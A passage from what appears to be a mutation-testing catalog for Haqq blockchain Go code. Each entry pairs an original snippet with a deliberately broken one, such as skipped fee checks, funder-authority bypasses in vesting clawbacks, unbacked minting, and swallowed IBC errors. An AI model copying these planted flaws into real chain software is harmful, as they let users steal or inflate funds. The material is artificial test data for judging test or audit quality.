  "anteHandler = newLegacyCosmosAnteHandlerEip712(options)", "anteHandler = newCosmosAnteHandler(options)", "route/")
m("c06-extension-count", "C06", "app/ante/evm/setup_ctx.go",
  "\tif len(body.ExtensionOptions) != 1 {", "\tif len(body.ExtensionOptions) < 1 {", "one-extension-option")

# ---------------- C07 ----------------
m("c07-eip712-no-minprice", "C07", "app/ante/handler_options.go",
  "\t\tante.NewTxTimeoutHeightDecorator(),\n\t\tcosmosante.NewMinGasPriceDecorator(options.FeeMarketKeeper, options.EvmKeeper),\n\t\tante.NewValidateMemoDecorator(options.AccountKeeper),",
  "\t\tante.NewTxTimeoutHeightDecorator(),\n\t\tante.NewValidateMemoDecorator(options.AccountKeeper),", "newLegacyCosmosAnteHandlerEip712#MinGasPriceDecorator")
m("c07-no-refund-on-vmerror", "C07", "x/evm/keeper/state_transition.go",
  "\tif err = k.RefundGas(ctx, msg, msg.Gas()-res.GasUsed, cfg.Params.EvmDenom); err != nil {",
  "\tif res.Failed() {\n\t\treturn res, nil\n\t}\n\tif err = k.RefundGas(ctx, msg, msg.Gas()-res.GasUsed, cfg.Params.EvmDenom); err != nil {", "refund-on-success")
m("c07-gasused-no-multiplier", "C07", "x/evm/keeper/state_transition.go",
  "gasUsed := math.LegacyMaxDec(minimumGasUsed, math.LegacyNewDec(int64(temporaryGasUsed))).TruncateInt().Uint64()",
  "gasUsed := math.LegacyNewDec(int64(temporaryGasUsed)).TruncateInt().Uint64()", "gas-used-deps")
m("c07-floor-on-tip-only", "C07", "app/ante/evm/fees.go",
  "\t\tif fee.LT(requiredFee) {\n\t\t\treturn ctx, errorsmod.Wrapf(\n\t\t\t\terrortypes.ErrInsufficientFee,\n\t\t\t\t\"provided fee < minimum global fee",
  "\t\tif fee.LT(requiredFee) && txData.TxType() == ethtypes.LegacyTxType {\n\t\t\treturn ctx, errorsmod.Wrapf(\n\t\t\t\terrortypes.ErrInsufficientFee,\n\t\t\t\t\"provided fee < minimum global fee", "EthMinGasPriceDecorator")
m("c07-refund-on-tmpctx", "C07", "x/evm/keeper/state_transition.go",
  "k.RefundGas(ctx, msg, msg.Gas()-res.GasUsed, cfg.Params.EvmDenom)", "k.RefundGas(tmpCtx, msg, msg.Gas()-res.GasUsed, cfg.Params.EvmDenom)", "refund-on-success")
m("c07-verifyfee-skip-basefee", "C07", "x/evm/keeper/fees.go",
  "\tif baseFee != nil && txData.GetGasFeeCap().Cmp(baseFee) < 0 {", "\tif baseFee != nil && isCheckTx && txData.GetGasFeeCap().Cmp(baseFee) < 0 {", "VerifyFee#feecap-vs-basefee")
m("c07-cosmos-floor-simcheck", "C07", "app/ante/cosmos/min_price.go",
  "\tif minGasPrice.IsZero() || simulate {", "\tif minGasPrice.IsZero() || simulate || len(feeCoins) == 0 {", "MinGasPriceDecorator")
m("c07-deduct-other-fee", "C07", "app/ante/evm/eth.go",
  "\t\tif err = egcd.deductFee(ctx, fees, from); err != nil {", "\t\tif err = egcd.deductFee(ctx, fees[:0], from); err != nil {", "deducts-verified-fee")

# ---------------- C12 ----------------
m("c12-stale-order", "C12", "x/ucdao/keeper/keeper.go",
  "\tfor _, coin := range leftovers {\n\t\tif err := k.setBalance(ctx, owner, coin); err != nil {\n\t\t\treturn nil, err\n\t\t}\n\t}\n\n\t// Add coins to new owner\n\tif err := k.addCoinsToAccount(ctx, newOwner, amount); err != nil {\n\t\treturn nil, err\n\t}",
  "\t// Add coins to new owner\n\tif err := k.addCoinsToAccount(ctx, newOwner, amount); err != nil {\n\t\treturn nil, err\n\t}\n\n\tfor _, coin := range leftovers {\n\t\tif err := k.setBalance(ctx, owner, coin); err != nil {\n\t\t\treturn nil, err\n\t\t}\n\t}", "writeback")
m("c12-transfer-touches-total", "C12", "x/ucdao/keeper/keeper.go",
  "\t// Update holders index\n\tk.setHoldersIndex(ctx, newOwner)\n\tk.setHoldersIndex(ctx, owner)",
  "\tfor _, c := range amount {\n\t\tk.setTotalBalanceOfCoin(ctx, k.GetTotalBalanceOf(ctx, c.Denom).Add(c))\n\t}\n\t// Update holders index\n\tk.setHoldersIndex(ctx, newOwner)\n\tk.setHoldersIndex(ctx, owner)", "setTotalBalanceOfCoin")
m("c12-msgserver-writes-ledger", "C12", "x/ucdao/keeper/msg_server.go",
  "\tif err := k.Keeper.Fund(ctx, msg.Amount, addr); err != nil {\n\t\treturn nil, err\n\t}",
  "\tif err := k.Keeper.Fund(ctx, msg.Amount, addr); err != nil {\n\t\treturn nil, err\n\t}\n\tif bk, ok := k.Keeper.(BaseKeeper); ok {\n\t\tbk.setHoldersIndex(ctx, addr)\n\t}", "setHoldersIndex")
m("c12-fund-skips-total", "C12", "x/ucdao/keeper/keeper.go",
  "\t\tbal := k.GetTotalBalanceOf(ctx, coin.Denom)\n\t\tbal = bal.Add(coin)\n\t\tk.setTotalBalanceOfCoin(ctx, bal)",
  "\t\tif IsLiquidToken(coin.Denom) {\n\t\t\tcontinue\n\t\t}\n\t\tbal := k.GetTotalBalanceOf(ctx, coin.Denom)\n\t\tbal = bal.Add(coin)\n\t\tk.setTotalBalanceOfCoin(ctx, bal)", "total-follows")
m("c12-fund-credit-before-escrow", "C12", "x/ucdao/keeper/keeper.go",
  "\tif err := k.bk.SendCoinsFromAccountToModule(ctx, sender, types.ModuleName, amount); err != nil {\n\t\treturn err\n\t}\n\n\tfor _, coin := range amount {",
  "\tfor _, coin := range amount {", "escrow", "drops the escrow entirely")
m("c12-no-validate", "C12", "x/ucdao/keeper/msg_server.go",
  "func (k msgServer) TransferOwnershipWithAmount(goCtx context.Context, msg *types.MsgTransferOwnershipWithAmount) (*types.MsgTransferOwnershipWithAmountResponse, error) {\n\tctx := sdk.UnwrapSDKContext(goCtx)\n\n\tif err := msg.ValidateBasic(); err != nil {\n\t\treturn nil, err\n\t}\n",
  "func (k msgServer) TransferOwnershipWithAmount(goCtx context.Context, msg *types.MsgTransferOwnershipWithAmount) (*types.MsgTransferOwnershipWithAmountResponse, error) {\n\tctx := sdk.UnwrapSDKContext(goCtx)\n", "validate-first")

m("c13-coefficient-type-only", "C13", "x/coinomics/types/params.go",
  "\tif v.Abs().GT(sdk.NewDec(1_000_000_000_000_000_000)) {\n\t\treturn fmt.Errorf(\"reward coefficient out of range: %s\", v)\n\t}\n", "\t_ = v.Abs()\n", "range-checked",
  "the coefficient validator checks the type only")
m("c13-params-second-home", "C13", "x/coinomics/keeper/params.go",
  "func (k Keeper) GetParams(ctx sdk.Context) (params types.Params) {\n", "func (k Keeper) GetParams(ctx sdk.Context) (params types.Params) {\n\tif bz := ctx.KVStore(k.storeKey).Get(types.ParamsKey); bz != nil {\n\t\tk.cdc.MustUnmarshal(bz, &params)\n\t\treturn params\n\t}\n", "reads-the-subspace-only",
  "GetParams prefers a copy in the module's own store")
# ---------------- C14 ----------------
m("c14-gov-plain-bank", "C14", "app/app.go",
  "\t\tappCodec, keys[govtypes.StoreKey], app.AccountKeeper, &haqqBankKeeper,\n\t\tstakingKeeper, app.MsgServiceRouter(), govConfig, authAddr,",
  "\t\tappCodec, keys[govtypes.StoreKey], app.AccountKeeper, app.BankKeeper,\n\t\tstakingKeeper, app.MsgServiceRouter(), govConfig, authAddr,", "gov/keeper.NewKeeper/bank")
m("c14-drop-feepool-write", "C14", "x/bank/keeper/keeper.go",
  "\t\tb := k.cdc.MustMarshal(&feePool)\n\t\tkvstore.Set(distrtypes.FeePoolKey, b)\n", "\t\t_ = k.cdc.MustMarshal(&feePool)\n", "feepool")
m("c14-evm-redirected", "C14", "x/bank/keeper/keeper.go",
  "\tcase govtypes.ModuleName, stakingtypes.BondedPoolName, stakingtypes.NotBondedPoolName:", "\tcase govtypes.ModuleName, stakingtypes.BondedPoolName, stakingtypes.NotBondedPoolName, \"evm\":", "case-set")
m("c14-notbonded-burns", "C14", "x/bank/keeper/keeper.go",
  "\tcase govtypes.ModuleName, stakingtypes.BondedPoolName, stakingtypes.NotBondedPoolName:", "\tcase govtypes.ModuleName, stakingtypes.BondedPoolName:", "case-set")
m("c14-wrong-distr-key", "C14", "app/app.go",
  "appCodec, keys[banktypes.StoreKey], keys[distrtypes.StoreKey], app.AccountKeeper, app.DistrKeeper, app.BlockedAddrs(), authAddr,",
  "appCodec, keys[banktypes.StoreKey], keys[banktypes.StoreKey], app.AccountKeeper, app.DistrKeeper, app.BlockedAddrs(), authAddr,", "distrStoreKey")

# ---------------- C16 ----------------
m("c16-delegate-not-tx", "C16", "precompiles/staking/staking.go",
  "\tcase CreateValidatorMethod,\n\t\tDelegateMethod,\n\t\tUndelegateMethod,", "\tcase CreateValidatorMethod,\n\t\tUndelegateMethod,", "classification/delegate")
m("c16-mutate-msg", "C16", "precompiles/staking/tx.go",
  "\tmsgSrv := stakingkeeper.NewMsgServerImpl(&p.stakingKeeper)\n\tif _, err = msgSrv.Delegate(sdk.WrapSDKContext(ctx), msg); err != nil {",
  "\tmsg.Amount.Amount = msg.Amount.Amount.AddRaw(1)\n\tmsgSrv := stakingkeeper.NewMsgServerImpl(&p.stakingKeeper)\n\tif _, err = msgSrv.Delegate(sdk.WrapSDKContext(ctx), msg); err != nil {", "message-unmodified")
m("c16-skip-usegas", "C16", "precompiles/ics20/ics20.go",
  "\tif !contract.UseGas(cost) {\n\t\treturn nil, vm.ErrOutOfGas\n\t}", "\tif cost > 1<<40 && !contract.UseGas(cost) {\n\t\treturn nil, vm.ErrOutOfGas\n\t}", "gas-charged")
m("c16-abi-case-missing", "C16", "precompiles/distribution/distribution.go",
  "\tcase DelegatorWithdrawAddressMethod:\n\t\tbz, err = p.DelegatorWithdrawAddress(ctx, contract, method, args)\n", "", "abi=cases")
m("c16-sdk-msgserver-in-precompile", "C16", "precompiles/staking/tx.go",
  "\tmsgSrv := stakingkeeper.NewMsgServerImpl(&p.stakingKeeper)\n\tres, err := msgSrv.Undelegate(sdk.WrapSDKContext(ctx), msg)",
  "\tmsgSrv := sdkstakingkeeper.NewMsgServerImpl(p.stakingKeeper.Keeper)\n\tres, err := msgSrv.Undelegate(sdk.WrapSDKContext(ctx), msg)", "msg-server", "SDK msg server (no vesting checks) instead of the Haqq wrapper",
  extra=[("import (\n", "import (\n\tsdkstakingkeeper \"github.com/cosmos/cosmos-sdk/x/staking/keeper\"\n")])
m("c16-redelegate-to-delegate", "C16", "precompiles/distribution/tx.go",
  "res, err := msgSrv.WithdrawDelegatorReward(sdk.WrapSDKContext(ctx), msg)", "res, err := msgSrv.WithdrawDelegatorReward(sdk.WrapSDKContext(ctx), msg)\n\tif err == nil {\n\t\t_, err = msgSrv.FundCommunityPool(sdk.WrapSDKContext(ctx), nil)\n\t}", "native-dispatch")

m("c07-precompile-repanics", "C07", "precompiles/common/precompile.go",
  "\t\t\t\t*err = fmt.Errorf(\"precompile panicked: %v\", r)\n", "\t\t\t\tpanic(r)\n", "recovered-panics-stay-recovered",
  "the precompiles' deferred handler panics again for everything but out-of-gas")
m("c07-hook-panic-escapes", "C07", "x/evm/keeper/keeper.go",
  "\t\tif r := recover(); r != nil {\n\t\t\terr = errorsmod.Wrapf(types.ErrPostTxProcessing, \"hook panicked: %v\", r)\n\t\t}",
  "\t\tif r := recover(); r != nil {\n\t\t\terr = errorsmod.Wrapf(types.ErrPostTxProcessing, \"hook panicked: %v\", r)\n\t\t\tpanic(r)\n\t\t}", "hook-panics-are-recovered",
  "the hook dispatcher panics again after noting the error")
# ---------------- C08 ----------------
m("c08-locked-uncapped-delegated", "C08", "x/vesting/types/clawback_vesting_account.go",
  "lockedUpVestedDelegatedCoins := va.DelegatedFree.Add(va.DelegatedVesting...).Min(va.GetLockedUpVestedCoins(blockTime))",
  "lockedUpVestedDelegatedCoins := va.DelegatedFree.Add(va.DelegatedVesting...)", "LockedCoins#composition",
  "every delegated coin reduces the locked amount, not only min(delegated, locked-up vested): delegating frees unvested coins")
m("c08-module-registers-sdk-server", "C08", "x/staking/module.go",
  "types.RegisterMsgServer(cfg.MsgServer(), keeper.NewMsgServerImpl(am.keeper))",
  "types.RegisterMsgServer(cfg.MsgServer(), stakingkeeper.NewMsgServerImpl(am.keeper.Keeper))", "RegisterServices#",
  "module installs the unwrapped SDK staking message server")
m("c08-convert-stakes-whole-grant", "C08", "x/vesting/keeper/msg_server.go",
  "found, amountToDelegate := vestedCoins.Find(bondDenom)", "found, amountToDelegate := msg.GetVestingPeriods().TotalAmount().Find(bondDenom)",
  "delegateVestedCoins#sdk-Keeper.Delegate", "ConvertIntoVestingAccount --stake bonds the whole grant, vested or not")
m("c08-createvalidator-checks-minself", "C08", "x/staking/keeper/msg_server.go",
  "k.validateDelegationAmountNotUnvested(goCtx, msg.DelegatorAddress, msg.Value.Amount)",
  "k.validateDelegationAmountNotUnvested(goCtx, msg.DelegatorAddress, msg.MinSelfDelegation)", "CreateValidator#check-before-dispatch",
  "unvested check runs on the min self delegation, not on the bonded value")
m("c08-delegatable-ignores-unvested", "C08", "x/staking/keeper/msg_server.go",
  "\tdelegatableAmt := balance.Amount.Sub(unvestedBondableAmt)\n", "\tdelegatableAmt := balance.Amount\n\t_ = unvestedBondableAmt\n",
  "validateDelegationAmountNotUnvested#rejects-unvested", "delegatable = whole balance")
m("c08-spendable-ignores-lockup", "C08", "app/ante/evm/vesting.go",
  "lockedBalances := account.LockedCoins(ctx.BlockTime())", "lockedBalances := account.GetVestingCoins(ctx.BlockTime())",
  "updateAccountExpenses#spendable", "eth ante: only unvested coins count as locked, vested-but-locked-up coins become spendable")
m("c08-eth-vesting-per-message", "C08", "app/ante/evm/vesting.go",
  "\t\ttotal := expenses.total\n", "\t\ttotal := msgValue\n",
  "AnteHandle#spend-within-spendable", "each message is compared alone with the spendable balance; a multi-message tx overspends")
m("c08-addgrant-endtime-lockup-only", "C08", "x/vesting/keeper/msg_server.go",
  "\tva.EndTime = types.Max64(newLockupEnd, newVestingEnd)\n", "\tva.EndTime = newLockupEnd\n\t_ = newVestingEnd\n",
  "addGrant#EndTime", "merged account ends with its lockup; ReadSchedule releases the whole vesting total from then on")
m("c08-unlockedvested-max", "C08", "x/vesting/types/clawback_vesting_account.go",
  "coins := va.GetUnlockedCoins(blockTime).Min(va.GetVestedCoins(blockTime))", "coins := va.GetUnlockedCoins(blockTime).Max(va.GetVestedCoins(blockTime))",
  "GetUnlockedVestedCoins", "unlocked-vested = max(unlocked, vested): coins that are only unlocked OR only vested become spendable")

# ---------------- C09 ----------------
m("c09-clawback-dest-is-funder", "C09", "x/vesting/keeper/msg_server.go",
  "\tif va.FunderAddress != funder.String() {", "\tif va.FunderAddress != funder.String() && va.FunderAddress != dest.String() {",
  "Clawback#only-funder", "anyone may trigger the clawback as long as the coins go to the funder")
m("c09-updatefunder-compares-new", "C09", "x/vesting/keeper/msg_server.go",
  "\tif va.FunderAddress != msg.FunderAddress {", "\tif va.FunderAddress == msg.NewFunderAddress {",
  "UpdateVestingFunder#only-funder", "authority check replaced by a no-op-update check")
m("c09-merge-by-owner", "C09", "x/vesting/keeper/msg_server.go",
  "\t\tcase msg.FromAddress != vestingAcc.FunderAddress:", "\t\tcase msg.FromAddress != vestingAcc.FunderAddress && msg.FromAddress != msg.ToAddress:",
  "CreateClawbackVestingAccount#merge-only-by-funder", "the vesting account itself may merge grants")
m("c09-clawback-moves-funder", "C09", "x/vesting/keeper/msg_server.go",
  "\t// set the account with the updated values of the vesting schedule\n\tk.accountKeeper.SetAccount(ctx, &updatedAcc)",
  "\tupdatedAcc.FunderAddress = dest.String()\n\tk.accountKeeper.SetAccount(ctx, &updatedAcc)",
  "writes-FunderAddress", "clawback hands the funder role to the destination")
m("c09-clawback-stores-stale-account", "C09", "x/vesting/keeper/msg_server.go",
  "\tk.accountKeeper.SetAccount(ctx, &updatedAcc)", "\tk.accountKeeper.SetAccount(ctx, &va)",
  "transferClawback#stores-updated-account", "coins leave but the account keeps its old schedule and OriginalVesting")
m("c09-clawback-returns-locked", "C09", "x/vesting/types/clawback_vesting_account.go",
  "totalUnvested := va.GetVestingCoins(time.Unix(clawbackTime, 0))", "totalUnvested := va.LockedCoins(time.Unix(clawbackTime, 0))",
  "ComputeClawback#returns-unvested", "claws back every locked coin, vested-but-locked ones included")
m("c09-blocked-check-on-funder", "C09", "x/vesting/keeper/msg_server.go",
  "\tif bk.BlockedAddr(dest) {\n\t\treturn nil, errorsmod.Wrapf(errortypes.ErrUnauthorized,\n\t\t\t\"%s is not allowed to receive funds\", msg.DestAddress,",
  "\tif bk.BlockedAddr(funder) {\n\t\treturn nil, errorsmod.Wrapf(errortypes.ErrUnauthorized,\n\t\t\t\"%s is not allowed to receive funds\", msg.DestAddress,",
  "Clawback#dest-not-blocked", "blocked-address check applied to the funder instead of the destination")
m("c09-default-dest-is-account", "C09", "x/vesting/keeper/msg_server.go",
  "\tif msg.DestAddress == \"\" {\n\t\tdest = funder\n\t}", "\tif msg.DestAddress == \"\" {\n\t\tdest = addr\n\t}",
  "Clawback#dest-source", "without a destination the unvested coins go back to the vesting account itself")
m("c09-addgrant-keeps-lockup", "C09", "x/vesting/keeper/msg_server.go",
  "\tva.LockupPeriods = newLockupPeriods\n", "\tif len(va.LockupPeriods) == 0 {\n\t\tva.LockupPeriods = newLockupPeriods\n\t}\n",
  "addGrant#sets-LockupPeriods", "merge keeps the old lockup list although start time moved")
m("c09-pastcount-boundary", "C09", "x/vesting/types/schedule.go",
  "\t\tif readTime < elapsedTime+period.Length {\n\t\t\t// we're reading before the next event\n\t\t\tbreak\n\t\t}\n\t\tpassedPeriods++",
  "\t\tif readTime <= elapsedTime+period.Length {\n\t\t\t// we're reading before the next event\n\t\t\tbreak\n\t\t}\n\t\tpassedPeriods++",
  "ReadPastPeriodCount#period-end-vs-readTime", "a period ending exactly at the clawback time is counted vested by ReadSchedule but cut from the period list")
m("c09-readschedule-start-inclusive", "C09", "x/vesting/types/schedule.go",
  "\tif readTime < startTime {\n\t\treturn sdk.NewCoins()", "\tif readTime <= startTime {\n\t\treturn sdk.NewCoins()",
  "ReadSchedule#limits", "a zero-length first period is missed in the start second (the former behaviour; this mutant used to be stated the other way round)")
m("c09-pastperiods-start-inclusive", "C09", "x/vesting/types/schedule.go",
  "\tif readTime < startTime {\n\t\treturn 0", "\tif readTime <= startTime {\n\t\treturn 0",
  "ReadPastPeriodCount#limits", "the period count misses a zero-length first period in the start second")

m("c09-grant-start-clamped-to-the-account", "C09", "x/vesting/keeper/schedule.go",
  "\t\terr := k.addGrant(\n\t\t\tctx,\n\t\t\tvestingAcc,\n\t\t\tstartTime.Unix(),", "\t\tgrantStart := startTime.Unix()\n\t\tif accStart := vestingAcc.GetStartTime(); grantStart > accStart {\n\t\t\tgrantStart = accStart\n\t\t}\n\t\terr := k.addGrant(\n\t\t\tctx,\n\t\t\tvestingAcc,\n\t\t\tgrantStart,", "start-is-the-given-time",
  "a later grant start is clamped to the account's start before the merge")
# ---------------- C10 ----------------
m("c10-escrow-underdelivery-accepted", "C10", "x/erc20/keeper/msg_server.go",
  "Add(balanceToken, tokens)\n\n\tif r := balanceTokenAfter.Cmp(expToken); r != 0 {\n\t\treturn nil, errorsmod.Wrapf(\n\t\t\ttypes.ErrBalanceInvariance,\n\t\t\t\"invalid token balance - expected: %v, actual: %v\",\n",
  "Add(balanceToken, tokens)\n\n\tif r := balanceTokenAfter.Cmp(expToken); r > 0 {\n\t\treturn nil, errorsmod.Wrapf(\n\t\t\ttypes.ErrBalanceInvariance,\n\t\t\t\"invalid token balance - expected: %v, actual: %v\",\n",
  "convertERC20NativeToken#guard/escrow-balance-check", "fee-on-transfer token: escrow grows by less than the amount, full amount is minted")
m("c10-unescrow-mints", "C10", "x/erc20/keeper/msg_server.go",
  "\terr = k.bankKeeper.SendCoinsFromModuleToAccount(ctx, types.ModuleName, receiver, coins)\n",
  "\tif err = k.bankKeeper.MintCoins(ctx, types.ModuleName, coins); err == nil {\n\t\terr = k.bankKeeper.SendCoinsFromModuleToAccount(ctx, types.ModuleName, receiver, coins)\n\t}\n",
  "convertERC20NativeCoin", "coin-origin pair: redeeming tokens mints fresh coins instead of releasing the escrow")
m("c10-wrap-nil-balance", "C10", "x/erc20/keeper/msg_server.go",
  "\t// Check expected receiver balance after transfer\n\ttokens := msg.Coin.Amount.BigInt()\n\tbalanceTokenAfter := k.BalanceOf(ctx, erc20, contract, receiver)\n\tif balanceTokenAfter == nil {\n\t\treturn nil, errorsmod.Wrap(types.ErrEVMCall, \"failed to retrieve balance\")",
  "\t// Check expected receiver balance after transfer\n\ttokens := msg.Coin.Amount.BigInt()\n\tbalanceTokenAfter := k.BalanceOf(ctx, erc20, contract, receiver)\n\tif balanceTokenAfter == nil {\n\t\treturn nil, errorsmod.Wrap(err, \"failed to retrieve balance\")",
  "convertCoinNativeCoin#wrap-nil", "failure branch wraps the (nil) error of the previous call: conversion reports success with a nil response")
m("c10-unescrow-ignores-transfer-false", "C10", "x/erc20/keeper/msg_server.go",
  "\tif !unpackedRet.Value {\n\t\treturn nil, errorsmod.Wrap(errortypes.ErrLogic, \"failed to execute unescrow tokens from user\")\n\t}\n", "",
  "convertCoinNativeERC20#guard/transfer-returned-true")
m("c10-recv-swallows-convert-error", "C10", "x/erc20/keeper/ibc_callbacks.go",
  "\tif _, err = k.ConvertCoin(sdk.WrapSDKContext(ctx), msg); err != nil {\n\t\treturn channeltypes.NewErrorAcknowledgement(err)",
  "\tif _, err = k.ConvertCoin(sdk.WrapSDKContext(ctx), msg); err != nil {\n\t\treturn ack",
  "OnRecvPacket#convert-error-is-error-ack", "failed auto-conversion on receive returns the success acknowledgement")
m("c10-ack-refund-on-result", "C10", "x/erc20/keeper/ibc_callbacks.go",
  "\tcase *channeltypes.Acknowledgement_Error:", "\tcase *channeltypes.Acknowledgement_Error, *channeltypes.Acknowledgement_Result:",
  "OnAcknowledgementPacket#refund-only-on-error-ack", "sender's coins are re-converted although the transfer succeeded")
m("c10-middleware-ignores-failed-ack", "C10", "x/erc20/ibc_middleware.go",
  "\t// return if the acknowledgement is an error ACK\n\tif !ack.Success() {\n\t\treturn ack\n\t}\n\n\treturn im.keeper.OnRecvPacket(ctx, packet, ack)",
  "\treturn im.keeper.OnRecvPacket(ctx, packet, ack)", "skip-on-failed-ack")
m("c10-hook-any-recipient", "C10", "x/erc20/keeper/evm_hooks.go",
  "\t\tif !bytes.Equal(to.Bytes(), types.ModuleAddress.Bytes()) {", "\t\tif bytes.Equal(to.Bytes(), common.Address{}.Bytes()) {",
  "PostTxProcessing", "every Transfer event of a registered token (to anyone) pays out coins to the sender")
m("c10-bankwrapper-no-bool-check", "C10", "x/bank/keeper/msg_server.go",
  "\tif !unpackedRet.Value {\n\t\treturn errorsmod.Wrap(sdkerrors.ErrLogic, \"failed to transfer erc20 tokens\")\n\t}\n", "",
  "subUnlockedERC20Tokens#guard/transfer-returned-true")

m("c10-bankwrapper-wrap-nil", "C10", "x/bank/keeper/msg_server.go",
  "\tif evmToBalanceTokenAfter == nil {\n\t\treturn errorsmod.Wrap(erc20types.ErrEVMCall, \"failed to retrieve receiver's balance\")",
  "\tif evmToBalanceTokenAfter == nil {\n\t\treturn errorsmod.Wrap(err, \"failed to retrieve receiver's balance\")",
  "subUnlockedERC20Tokens#wrap-nil", "same Wrap(nil) shape in a function without defer (control for c10-wrap-nil-balance)")

m("c10-ibc-receive-converts-for-long-address", "C10", "x/erc20/keeper/ibc_callbacks.go",
  "\tif len(recipient) != common.AddressLength {\n\t\treturn ack\n\t}\n", "", "OnRecvPacket#ConvertCoin-1-needs-a-20-byte-holder",
  "the IBC receive converts for receivers of any address length")
m("c10-bank-send-converts-for-long-address", "C10", "x/bank/keeper/msg_server.go",
  "\tif !k.ek.IsERC20Enabled(ctx) || len(from) != common.AddressLength || len(to) != common.AddressLength {", "\tif !k.ek.IsERC20Enabled(ctx) || len(to) != common.AddressLength {", "needs-a-20-byte-holder",
  "the bank send wrapper converts for senders of any address length")
# ---------------- C11 ----------------
m("c11-mint-locked-balance", "C11", "x/liquidvesting/keeper/msg_server.go",
  "liquidTokenCoin := sdk.NewCoin(liquidDenom.GetBaseDenom(), msg.Amount.Amount)", "liquidTokenCoin := sdk.NewCoin(liquidDenom.GetBaseDenom(), lockedBalance.Amount)",
  "Liquidate#event/MintCoins", "mints the account's whole locked balance of liquid tokens while only msg.Amount is escrowed")
m("c11-liquidate-unvested-allowed", "C11", "x/liquidvesting/keeper/msg_server.go",
  "\tif !va.GetVestingCoins(ctx.BlockTime()).IsZero() {\n\t\treturn nil, errorsmod.Wrapf(errortypes.ErrInvalidRequest, \"account %s has vesting ongoing periods, unable to liquidate unvested coins\", msg.LiquidateFrom)\n\t}\n", "",
  "Liquidate#guard/fully-vested")
m("c11-account-keeps-full-lockup", "C11", "x/liquidvesting/keeper/msg_server.go",
  "\tva.LockupPeriods = types.ReplacePeriodsTail(va.LockupPeriods, decreasedPeriods)\n", "\t_ = decreasedPeriods\n",
  "Liquidate#account-reduced", "account keeps its full lockup schedule after the split")
m("c11-redeem-no-burn", "C11", "x/liquidvesting/keeper/msg_server.go",
  "\t// burn liquid token specified amount\n\terr = k.bankKeeper.BurnCoins(ctx, types.ModuleName, sdk.NewCoins(msg.Amount))\n\tif err != nil {\n\t\treturn nil, errorsmod.Wrapf(types.ErrRedeemFailed, \"failed to burn liquid tokens: %s\", err.Error())\n\t}\n", "",
  "Redeem#event/BurnCoins", "redeemed liquid tokens stay in supply")
m("c11-redeem-single-period-unlocked", "C11", "x/liquidvesting/keeper/msg_server.go",
  "\tif len(upcomingPeriods) > 0 {", "\tif len(upcomingPeriods) > 1 {",
  "Redeem#schedule-reapplied", "a last remaining period is redeemed without lock")
m("c11-redeem-mints-original", "C11", "x/liquidvesting/keeper/msg_server.go",
  "\t// transfer original token to account\n\terr = k.bankKeeper.SendCoinsFromModuleToAccount(",
  "\t// transfer original token to account\n\tif k.bankKeeper.GetBalance(ctx, k.accountKeeper.GetModuleAddress(types.ModuleName), originalDenomCoin.Denom).IsLT(originalDenomCoin) {\n\t\tif err := k.bankKeeper.MintCoins(ctx, types.ModuleName, sdk.NewCoins(originalDenomCoin)); err != nil {\n\t\t\treturn nil, err\n\t\t}\n\t}\n\terr = k.bankKeeper.SendCoinsFromModuleToAccount(",
  "Redeem#MintCoins", "missing backing is silently minted in native coins")
m("c11-denom-endtime-is-start", "C11", "x/liquidvesting/keeper/denom.go",
  "EndTime:       time.Unix(startTime+periods.TotalLength(), 0),", "EndTime:       time.Unix(startTime, 0),",
  "CreateDenom#stores-parameter", "denom ends at its start: Redeem sees no upcoming periods and releases unlocked coins")
m("c11-shift-over-upcoming", "C11", "x/liquidvesting/keeper/msg_server.go",
  "types.CurrentPeriodShift(va.StartTime.Unix(), ctx.BlockTime().Unix(), va.LockupPeriods)", "types.CurrentPeriodShift(va.StartTime.Unix(), ctx.BlockTime().Unix(), upcomingPeriods)",
  "Liquidate", "shift into the current period computed over the upcoming list only: with unequal period lengths the liquid token unlocks earlier than the original")
m("c11-shift-boundary", "C11", "x/liquidvesting/types/schedule.go",
  "\t\tif elapsedTime+period.Length > currentTime {\n\t\t\treturn currentTime - elapsedTime", "\t\tif elapsedTime+period.Length >= currentTime {\n\t\t\treturn currentTime - elapsedTime",
  "CurrentPeriodShift#period-end-vs-currentTime")

m("c12-genesis-pool-unchecked", "C12", "x/ucdao/keeper/genesis.go",
  "\tif len(pool) != len(totalBalance) || !pool.IsAllGTE(totalBalance) || !totalBalance.IsAllGTE(pool) {\n\t\tpanic(",
  "\tif len(pool) != len(totalBalance) || !pool.IsAllGTE(totalBalance) || !totalBalance.IsAllGTE(pool) {\n\t\tctx.Logger().Error(\"ucdao pool mismatch\")\n\t\treturn\n\t\tpanic(", "pool-equals-computed-total",
  "a genesis whose module account does not hold the holders' total is only logged")
m("c12-genesis-no-module-account", "C12", "x/ucdao/keeper/genesis.go",
  "\tmacc := k.ak.GetModuleAccount(ctx, types.ModuleName)\n\tif macc == nil {\n\t\tpanic(\"the ucdao module account has not been set\")\n\t}\n\n\tpool := k.bk.GetAllBalances(ctx, macc.GetAddress())",
  "\tpool := k.bk.GetAllBalances(ctx, k.ak.GetModuleAddress(types.ModuleName))", "module-account-ensured",
  "the pool is read at the module address without creating the module account")
# ---------------- C13 ----------------
m("c13-disabled-falls-through", "C13", "x/coinomics/keeper/abci.go",
  "\t\t\tk.SetPrevBlockTS(ctx, sdk.ZeroInt())\n\t\t}\n\t\treturn\n\t}", "\t\t\tk.SetPrevBlockTS(ctx, sdk.ZeroInt())\n\t\t}\n\t}",
  "EndBlocker#only-when-enabled", "disabled branch no longer returns: minting continues while disabled")
m("c13-disabled-tracks-blocktime", "C13", "x/coinomics/keeper/abci.go",
  "\t\tif !k.GetPrevBlockTS(ctx).IsZero() {\n\t\t\tk.SetPrevBlockTS(ctx, sdk.ZeroInt())\n\t\t}\n",
  "\t\tk.SetPrevBlockTS(ctx, sdk.NewInt(ctx.BlockTime().UnixMilli()))\n",
  "EndBlocker#timestamp-forgotten-while-disabled", "while disabled the timestamp follows the block time: the first block after activation mints one interval")
m("c13-first-block-mints", "C13", "x/coinomics/keeper/inflation.go",
  "\t\tk.SetPrevBlockTS(ctx, currentBlockTS.RoundInt())\n\t\treturn nil\n\t}\n\n\t// Determine", "\t\tk.SetPrevBlockTS(ctx, currentBlockTS.RoundInt())\n\t}\n\n\t// Determine",
  "MintAndAllocate#first-block-mints-nothing", "first block falls through and mints for the time since the epoch")
m("c13-alloc-to-distribution", "C13", "x/coinomics/keeper/inflation.go",
  "\t\tk.feeCollectorName,\n", "\t\t\"distribution\",\n",
  "MintAndAllocate#minted-coin-goes-to-fee-collector", "minted coins bypass the fee collector")
m("c13-timestamp-not-updated", "C13", "x/coinomics/keeper/inflation.go",
